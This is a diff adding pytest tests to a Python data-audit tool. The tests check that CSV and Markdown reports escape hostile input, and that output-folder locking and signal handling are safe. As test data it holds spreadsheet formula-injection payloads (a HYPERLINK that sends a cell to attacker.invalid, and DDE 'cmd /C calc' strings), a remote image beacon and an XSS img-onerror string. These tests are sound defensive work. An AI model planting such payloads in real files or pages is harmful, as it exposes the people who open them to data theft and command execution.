@@ -5,12 +5,17 @@ import json
 import os
 import re
 import shutil
+import signal
+import socket
 import subprocess
 import tempfile
+import threading
+from pathlib import Path
 
 import numpy as np
 import pytest
 
+from sk_zerror import _audit, _report
 from sk_zerror._audit import AuditError, fit_audit, prepare_audit
 from sk_zerror._cli import main
 from sk_zerror._hints import (
@@ -21,9 +26,12 @@ from sk_zerror._hints import (
     robust_zscores,
 )
 from sk_zerror._report import (
+    LOCK,
     MARKER,
+    OutputClaim,
     _markdown_table,
     check_output_folder,
+    claim_output_folder,
     render_html,
     render_report,
 )
@@ -532,3 +540,239 @@ def test_indented_notes_nest_in_both_reports(diamonds, tmp_path):
         "<li>demo: 2 injected errors<ul><li>decimal slip x10  found 1 of 1</li>"
         "</ul></li>" in page
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.invalid?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+IMAGE = "![px](http://attacker.invalid/p.png)"
+TARGET = "y\n\n<img src=x onerror=alert(1)>"
+
+
+@pytest.fixture(scope="module")
+def injection_audit(tmp_path_factory):
+    """An audit of a Parquet table whose ids, names and targets attack the readers
+    of its CSV files (spreadsheet formulas) and of report.md (Markdown, HTML)."""
+    rng = np.random.default_rng(3)
+    n = 80
+    X = rng.normal(size=(n, 2))
+    y = (X[:, 0] + 0.1 * rng.normal(size=n)).astype(object)
+    ids = np.array([f"S{i}" for i in range(n)], dtype=object)
+    ids[: len(FORMULAS)] = FORMULAS
+    ids[6], ids[7] = IMAGE, HOSTILE
+    y[:8] = y[:8] + 25  # flagged: their ids are in report.md's table
+    y = np.array([f"{v:.4f}" for v in y], dtype=object)
+    y[10], y[11] = "=1+1", IMAGE  # not numbers: left out, listed with the value
+    frame = pd.DataFrame({"@sample_id": ids, IMAGE: X[:, 0], "-b": X[:, 1]})
+    frame[TARGET] = y
+    tmp_path = tmp_path_factory.mktemp("injection")
+    path = tmp_path / "hostile.parquet"
+    frame.to_parquet(path)
+    out = tmp_path / "out"
+    code = main(
+        ["audit", str(path), "--target", TARGET, "--out", str(out), "--quiet"]
+        + ["--epochs", "40", "--sigma", "3"]
+    )
+    assert code == 0
+    return out
+
+
+def read_csv_cells(path):
+    with open(path, newline="", encoding="utf-8") as file:
+        return list(csv.reader(file))
+
+
+def test_csv_outputs_carry_no_spreadsheet_formula(injection_audit):
+    from sk_zerror._escape import FORMULA_START, PLAIN_NUMBER
+
+    tables = {
+        name: read_csv_cells(injection_audit / name)
+        for name in ("flagged.csv", "all_rows.csv", "left_out.csv")
+    }
+    for name, rows in tables.items():
+        assert rows[0][1] == ("reason" if name == "left_out.csv" else "'@sample_id")
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.match(cell)
+    header, *rows = tables["all_rows.csv"]
+    assert header[2] == TARGET  # a name that is not a formula stays as it is
+    ids = {row[1] for row in rows}
+    assert {"'" + cell for cell in FORMULAS} <= ids
+    # Numbers stay numbers: negative z-scores are written as they are.
+    z = [float(row[header.index("z_score")]) for row in rows]
+    assert min(z) < 0 and len(rows) == 78
+    left_out = tables["left_out.csv"]
+    assert [row[2] for row in left_out[1:]] == ["'=1+1", IMAGE]
+
+
+def test_report_md_renders_no_image_tag_or_html_from_the_data(injection_audit):
+    markdown_it = pytest.importorskip("markdown_it")
+    text = (injection_audit / "report.md").read_text(encoding="utf-8")
+    parser = markdown_it.MarkdownIt("commonmark").enable("table")
+    tokens = parser.parse(text)
+    inline = [child for token in tokens for child in token.children or []]
+    kinds = {token.type for token in [*tokens, *inline]}
+    assert not kinds & {"html_block", "html_inline", "link_open"}
+    images = [token.attrs["src"] for token in inline if token.type == "image"]
+    assert images and all(not src.startswith(("http", "//")) for src in images)
+    assert set(images) <= {p.name for p in injection_audit.glob("*.png")}
+    page = parser.render(text)
+    assert '<img src="x"' not in page and 'attacker.invalid/p.png"' not in page
+    # The hostile strings arrive as text: the ids in the flagged table, the
+    # column name in the summary, the target name in the table's header.
+    # (and once as a target value, in the table of the rows left out).
+    assert page.count(f"<td>{IMAGE}</td>") == 2
+    assert f"Features used: {IMAGE}" in page
+    assert "<th>y &lt;img src=x onerror=alert(1)&gt;</th>" in page
+    assert "<td>&lt;img src=x onerror=" in page
+
+
+def test_of_audits_claiming_one_new_folder_together_exactly_one_wins(workspace):
+    threads, barrier = 8, threading.Barrier(8)
+    outcomes = [None] * threads
+
+    def claim(i):
+        barrier.wait()
+        try:
+            outcomes[i] = claim_output_folder("new/report", force=False)
+        except AuditError as exc:
+            outcomes[i] = str(exc)
+
+    workers = [threading.Thread(target=claim, args=(i,)) for i in range(threads)]
+    for worker in workers:
+        worker.start()
+    for worker in workers:
+        worker.join()
+    claims = [o for o in outcomes if isinstance(o, OutputClaim)]
+    assert len(claims) == 1
+    for message in set(outcomes) - set(claims):
+        assert "is being written by another sk-zerror audit (process" in message
+    assert os.listdir(workspace / "new" / "report") == [LOCK]
+    claims[0].release()
+    assert not (workspace / "new").exists()
+
+
+def test_a_folder_claimed_by_a_running_audit_is_refused(workspace, capsys):
+    claim = claim_output_folder("report", force=False)
+    before = snapshot(workspace)
+    for force in ([], ["--force"]):
+        assert audit("data.csv", "--target", "y", "--out", "report", *force) == 2
+        err = capsys.readouterr().err
+        assert re.search(
+            r"output folder report is being written by another sk-zerror audit "
+            rf"\(process {os.getpid()} on .*\): wait for it to finish or choose "
+            "another folder with --out",
+            err,
+        )
+        assert len(err.strip().splitlines()) == 1
+        assert snapshot(workspace) == before
+    claim.release()
+    assert audit("data.csv", "--target", "y", "--out", "report") == 0
+
+
+def test_the_lock_of_a_stopped_audit_is_named_with_the_fix(workspace):
+    finished = subprocess.Popen(["true"])
+    finished.wait()
+    (workspace / "report").mkdir()
+    lock = {"token": "x", "pid": finished.pid, "host": socket.gethostname()}
+    (workspace / "report" / LOCK).write_text(json.dumps(lock))
+    with pytest.raises(
+        AuditError,
+        match=rf"process {finished.pid} no longer runs, so delete report/{LOCK}",
+    ):
+        check_output_folder("report", force=True)
+
+
+def add_a_file_after(monkeypatch, module, name):
+    """The user writes report/mine.txt just after ``module.name`` runs."""
+    original = getattr(module, name)
+
+    def then_add(*args, **kwargs):
+        value = original(*args, **kwargs)
+        (Path("report") / "mine.txt").write_text("my notes\n")
+        return value
+
+    monkeypatch.setattr(module, name, then_add)
+
+
+@pytest.mark.parametrize("earlier", [False, True])
+def test_a_file_added_during_the_audit_is_never_deleted(
+    workspace, capsys, monkeypatch, earlier
+):
+    if earlier:
+        assert audit("data.csv", "--target", "y", "--out", "report") == 0
+    before = snapshot(workspace)
+    add_a_file_after(monkeypatch, _audit, "fit_audit")  # during training
+    assert audit("data.csv", "--target", "y", "--out", "report", "--force") == 2
+    err = capsys.readouterr().err
+    assert (
+        "files appeared in the output folder report during the audit (mine.txt); "
+        "it was left as it was and nothing was written" in err
+    )
+    assert snapshot(workspace) == {**before, "report/mine.txt": b"my notes\n"}
+    assert sorted(p.name for p in workspace.iterdir()) == [
+        "data.csv",
+        "notes.txt",
+        "raw",
+        "report",
+    ]
+
+
+def test_a_file_added_during_the_swap_is_kept_beside_the_report(
+    workspace, capsys, monkeypatch
+):
+    assert audit("data.csv", "--target", "y", "--out", "report") == 0
+    capsys.readouterr()
+    # After the last check, before the old folder is moved away.
+    add_a_file_after(monkeypatch, _report, "_replaceable")
+    assert audit("data.csv", "--target", "y", "--out", "report", "--force") == 0
+    err = capsys.readouterr().err
+    kept = [p for p in workspace.iterdir() if p.name.startswith(".report.old-")]
+    assert len(kept) == 1 and os.listdir(kept[0]) == ["mine.txt"]
+    assert f"are kept in {kept[0].name}" in err
+    assert (workspace / "report" / "report.html").exists()
+    assert LOCK not in os.listdir(workspace / "report")
+
+
+def test_a_signal_during_the_swap_lets_it_finish(workspace, capsys, monkeypatch):
+    received = []
+    previous = signal.signal(signal.SIGTERM, lambda *a: received.append(a))
+    try:
+        original = _report._replaceable
+
+        def signalled(claim):
+            os.kill(os.getpid(), signal.SIGTERM)
+            return original(claim)
+
+        monkeypatch.setattr(_report, "_replaceable", signalled)
+        assert audit("data.csv", "--target", "y", "--out", "report") == 0
+        assert (workspace / "report" / "report.html").exists()
+        # Just before the swap, the same signal stops the audit.
+        monkeypatch.setattr(_report, "_replaceable", original)
+        original_render = _report.render_html
+
+        def render_then_signal(*args, **kwargs):
+            page = original_render(*args, **kwargs)
+            os.kill(os.getpid(), signal.SIGTERM)
+            return page
+
+        monkeypatch.setattr(_report, "render_html", render_then_signal)
+        before = snapshot(workspace)
+        code = audit("data.csv", "--target", "y", "--out", "report", "--force")
+        assert code == 143
+        assert "interrupted (SIGTERM); nothing was written" in capsys.readouterr().err
+        assert snapshot(workspace) == before
+        assert sorted(p.name for p in workspace.iterdir()) == [
+            "data.csv",
+            "notes.txt",
+            "raw",
+            "report",
+        ]
+    finally:
+        signal.signal(signal.SIGTERM, previous)
+    assert received == []  # every signal went to the audit's handler
